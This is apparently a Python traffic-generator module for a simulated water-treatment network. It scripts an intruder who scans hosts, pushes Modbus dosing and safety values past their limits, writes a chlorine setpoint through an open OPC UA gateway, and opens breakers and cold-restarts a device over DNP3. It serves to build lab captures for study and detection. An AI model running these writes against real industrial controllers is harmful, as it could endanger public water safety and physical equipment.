"""Who has got from the enterprise's network onto the host in the DMZ: `scan`, `dosing`, `gateway`, `intake`; `desktop` of a host.

pymodbus, asyncua, and DNP3 by hand (pcaps/make/dnp3/roles.py); the outstation that answers is opendnp3's.
"""

from __future__ import annotations

import asyncio
import struct
import sys
from collections.abc import Awaitable, Callable, Coroutine
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Final

from asyncua import Client, ua
from pymodbus import ModbusException
from pymodbus.client import AsyncModbusTcpClient

from pcaps.make.dnp3 import wire
from pcaps.make.dnp3.roles import LATCH_OFF, Line, relay
from pcaps.make.mixed.asked import remote_desktop
from pcaps.make.mixed.gateway import CHLORINE, PORT
from pcaps.make.mixed.places import BY_NAME, CELL, DOSING, GATEWAY, INTAKE, SAFETY, SUPERVISION

PORTS: Final = (22, 80, 102, 502, 4840, 20_000)
HOSTS: Final = (*(f"{CELL.network}.{number}" for number in range(10, 21)), *(f"{SUPERVISION.network}.{number}" for number in (21, 22, 30)))
MASTER, OUTSTATION = 1, 10


async def scan() -> None:
    """Which hosts are there, with which ports."""
    with ThreadPoolExecutor(16) as pool:
        list(pool.map(probe, [(host, port) for host in HOSTS for port in PORTS]))


def probe(place: tuple[str, int]) -> None:
    """One port: open, closed, or silent."""
    from socket import socket

    with socket() as line:
        line.settimeout(0.4)
        line.connect_ex(place)


async def tried(call: Callable[[], Awaitable[object]]) -> None:
    """An attempt whose refusal or silence is no reason to stop."""
    try:
        await call()
    except (ModbusException, OSError, ua.UaError) as error:
        print(f"attempt: {error}", file=sys.stderr)


async def dosing() -> None:
    """Asks the Modbus controllers who they are, reads them through, then writes: the dosing far beyond its limits, the safety too."""
    for address in (DOSING.ip, SAFETY.ip):
        async with AsyncModbusTcpClient(address, timeout=1, retries=0) as client:
            await tried(lambda client=client: client.read_device_information(read_code=3, object_id=0, device_id=1))
            await tried(lambda client=client: client.report_device_id(device_id=1))
    async with AsyncModbusTcpClient(DOSING.ip, timeout=1, retries=0) as client:
        for start in range(0, 2_000, 40):
            await tried(lambda start=start: client.read_holding_registers(start, count=10, device_id=1))
        for _ in range(6):
            await tried(lambda: client.write_registers(100, [9_999, 9_999, 0, 0], device_id=1))
            await asyncio.sleep(0.4)
        for coil in range(8):
            await tried(lambda coil=coil: client.write_coil(coil, False, device_id=1))
    async with AsyncModbusTcpClient(SAFETY.ip, timeout=1, retries=0) as client:
        await tried(lambda: client.write_registers(4, [65_535, 65_535], device_id=1))
        await tried(lambda: client.write_coil(0, False, device_id=1))


async def gateway() -> None:
    """Through the gateway's open endpoint: looks around as nobody, and writes a set point that the gateway hands on."""
    async with Client(f"opc.tcp://{GATEWAY.ip}:{PORT}/", timeout=5) as client:
        for node in await client.nodes.objects.get_children():
            await tried(node.get_children)
            await tried(node.read_browse_name)
        node = client.get_node(ua.NodeId(CHLORINE, 2))
        await tried(node.read_value)
        await tried(lambda: node.write_value(9.5))
        await tried(lambda: client.get_node(ua.NodeId("Filter/Level", 2)).write_value(0.0))
        await asyncio.sleep(3)


async def intake() -> None:
    """Looks at the intake, opens its breakers without asking twice, sets its flow far beyond the limit, and restarts the outstation."""
    await asyncio.to_thread(operate)


def operate() -> None:
    """Over connections which throw the master out, and which the master's next one throws out."""
    wanted = [(wire.READ, wire.everything(60, variation)) for variation in (1, 2, 3, 4)]
    wanted += [(wire.DIRECT_OPERATE, relay(index, LATCH_OFF)) for index in range(6)]
    wanted += [(wire.DIRECT_OPERATE, wire.indexed(41, 1, (1, struct.pack("<iB", 30_000, 0)))), (wire.COLD_RESTART, b"")]
    for _ in range(20):
        try:
            with Line(INTAKE.ip, MASTER, OUTSTATION, wait=0.1) as line:
                while wanted:
                    line.ask(*wanted[0])
                    wanted.pop(0)
        except OSError as error:
            print(f"thrown out: {error}", file=sys.stderr)
        if not wanted:
            return


ROLES: Final[dict[str, Callable[[], Coroutine[Any, Any, None]]]] = {
    "scan": scan, "dosing": dosing, "gateway": gateway, "intake": intake,
}  # fmt: skip


def play(role: str, *words: str) -> None:
    """Plays a role, or signs in at the desktop of a host as a user."""
    if role == "desktop":
        remote_desktop(BY_NAME[words[0]], words[1])
    else:
        asyncio.run(ROLES[role]())
